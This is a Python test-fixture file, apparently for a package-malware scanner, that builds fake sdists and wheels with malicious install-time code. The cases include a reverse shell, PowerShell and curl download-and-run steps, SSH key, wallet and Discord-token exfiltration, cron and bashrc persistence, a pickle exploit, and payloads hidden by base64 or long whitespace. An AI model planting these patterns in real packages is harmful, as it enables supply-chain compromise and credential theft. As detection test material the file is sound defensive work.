"""Python: where code runs from, and what it does without any decoder."""

import base64

from tests.evasions.case import HOST, MARK, PY_PAYLOAD, SETUP, Case, b64

_POWERSHELL = base64.b64encode(
    f"IEX(New-Object Net.WebClient).DownloadString('{HOST}/a.ps1')".encode("utf-16-le")
).decode()
_EXE = base64.b64encode(b"MZ\x90\0\3\0\0\0\4\0\0\0\xff\xff\0\0" + b"inert marker\0" * 40).decode()
_PICKLE = b"cposix\nsystem\n(S'echo inert marker'\ntR."


def _setup(id_: str, code: str) -> Case:
    return Case(id_, "sdist", {"setup.py": code + SETUP, "sample/__init__.py": ""})


CASES: tuple[Case, ...] = (
    Case("path-file", "wheel", {"sample.pth": f"import base64;exec(base64.b64decode('{b64(PY_PAYLOAD)}'))\n", "sample/__init__.py": ""}),
    Case(
        "build-backend",
        "sdist",
        {
            "pyproject.toml": "[build-system]\nrequires = []\nbuild-backend = 'own'\nbackend-path = ['.']\n",
            "own.py": PY_PAYLOAD + "from setuptools.build_meta import *\n",
            "sample/__init__.py": "",
        },
    ),
    Case(
        "byte-code-alone",
        "wheel",
        {
            "parcel/__init__.py": "from parcel.core import run\nrun()\n",
            "parcel/core.pyc": b"\xa7\r\r\n\0\0\0\0\0\0\0\0\0\0\0\0\xe3" + b"\0" * 20 + f"urllib.request urlopen {HOST} os environ exec".encode() * 3,
        },
    ),
    _setup(
        "powershell-encoded-in-parts",
        f"import subprocess\na = 'power' + 'shell'\nsubprocess.Popen([a, '-WindowStyle', 'Hidden', '-EncodedCommand', '{_POWERSHELL}'])\n",
    ),
    _setup(
        "program-in-base64",
        f"import base64, os, tempfile, subprocess\np = os.path.join(tempfile.gettempdir(), 'svc.exe')\n"
        f"with open(p, 'wb') as f:\n    f.write(base64.b64decode('{_EXE}'))\nsubprocess.call([p])\n",
    ),
    _setup(
        "plain-downloader",
        f"import requests, subprocess\nr = requests.get('{HOST}/a.exe')\nopen('a.exe', 'wb').write(r.content)\nsubprocess.Popen(['a.exe'])\n",
    ),
    _setup("curl-then-start", f"import os\nos.system('curl -o x.exe {HOST}/x.exe && start x.exe')\n"),
    _setup(
        "reverse-shell",
        "import socket, subprocess, os\ns = socket.socket()\ns.connect(('203.0.113.7', 4444))\n"
        "os.dup2(s.fileno(), 0)\nos.dup2(s.fileno(), 1)\nsubprocess.call(['/bin/sh', '-i'])\n",
    ),
    _setup(
        "name-lookup-carries-data",
        "import os, socket\nsocket.gethostbyname(socket.gethostname() + '.' + os.getlogin() + '.d.pratique-evasion.invalid')\n",
    ),
    _setup(
        "nslookup-carries-data",
        "import subprocess, getpass\nsubprocess.run(['nslookup', getpass.getuser() + '.x.pratique-evasion.invalid'])\n",
    ),
    Case(
        "mnemonic-to-bare-address",
        "wheel",
        {
            "sample/__init__.py": "import requests\ndef restore(mnemonic):\n    requests.post('http://203.0.113.9/k', json={'m': mnemonic})\n"
            "    return mnemonic\nimport os\np = os.path.expanduser('~/.ethereum/keystore')\n"
            "for n in os.listdir(p) if os.path.exists(p) else []:\n    requests.post('http://203.0.113.9/k', data=open(os.path.join(p, n)).read())\n",
        },
    ),
    _setup(
        "token-grabber-encoded-webhook",
        "import os, re, base64, json\nfrom urllib.request import Request, urlopen\n"
        f"W = base64.b64decode('{b64('https://discord.com/api/webhooks/1/inert')}').decode()\n"
        "p = os.getenv('APPDATA', '') + '\\\\discord\\\\Local Storage\\\\leveldb'\nt = []\n"
        "for f in os.listdir(p) if os.path.isdir(p) else []:\n    t += re.findall(r'[\\w-]{24}\\.[\\w-]{6}\\.[\\w-]{27}', open(p + '\\\\' + f, errors='ignore').read())\n"
        "urlopen(Request(W, data=json.dumps({'content': str(t)}).encode()))\n",
    ),
    Case(
        "pickle-loaded",
        "wheel",
        {
            "parcel/__init__.py": "import pickle, pkgutil\npickle.loads(pkgutil.get_data('parcel', 'model.bin'))\n",
            "parcel/model.bin": _PICKLE,
        },
    ),
    _setup(
        "shell-profile",
        f"import os\nwith open(os.path.expanduser('~/.bashrc'), 'a') as f:\n    f.write('\\ncurl -s {HOST}/s | sh &\\n')\n",
    ),
    _setup("cron", f"import os\nos.system('(crontab -l; echo \"@hourly curl -s {HOST}/c | bash\") | crontab -')\n"),
    _setup(
        "keys-sent",
        "import os, glob, urllib.request\nfor f in glob.glob(os.path.expanduser('~/.ssh/id_*')):\n"
        f"    urllib.request.urlopen('{HOST}/k', data=open(f, 'rb').read())\n",
    ),
    _setup(
        "host-gate",
        "import socket, hashlib, base64\nif hashlib.md5(socket.gethostname().encode()).hexdigest() == '0' * 32:\n"
        f"    exec(base64.b64decode('{b64(PY_PAYLOAD)}'))\n",
    ),
    _setup("off-screen", "import os" + " " * 400 + f";exec(__import__('urllib.request').request.urlopen('{HOST}/p').read())\n"),
    _setup("telegram", "import os, requests\nrequests.get('https://api.telegram.org/bot1:inert/sendMessage', params={'chat_id': 1, 'text': str(dict(os.environ))})\n"),
    _setup("marker-in-subprocess", f"import subprocess, sys\nsubprocess.Popen([sys.executable, '-c', \"import urllib.request as u;exec(u.urlopen('{HOST}').read());{MARK}\"])\n"),
)  # fmt: skip
